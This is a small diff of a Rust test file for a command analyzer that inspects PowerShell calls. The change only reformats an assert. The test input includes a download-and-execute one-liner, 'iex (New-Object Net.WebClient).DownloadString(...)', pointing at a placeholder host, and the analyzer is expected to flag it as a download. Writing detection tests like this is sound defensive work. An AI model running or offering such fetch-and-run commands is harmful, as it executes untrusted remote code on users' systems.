@@ -383,7 +383,10 @@ fn powershell_cmdlets_are_bound_and_looked_into() {
         .position(|i| i.program == "get-date")
         .unwrap();
     let producers = iex.dynamic_exec.clone().unwrap();
-    assert!(producers.contains(&iwr) && !producers.contains(&date), "{a:#?}");
+    assert!(
+        producers.contains(&iwr) && !producers.contains(&date),
+        "{a:#?}"
+    );
     // WebClient downloads are downloads
     let a = an("pwsh -c 'iex (New-Object Net.WebClient).DownloadString(\"https://x/i\")'");
     let dl = a
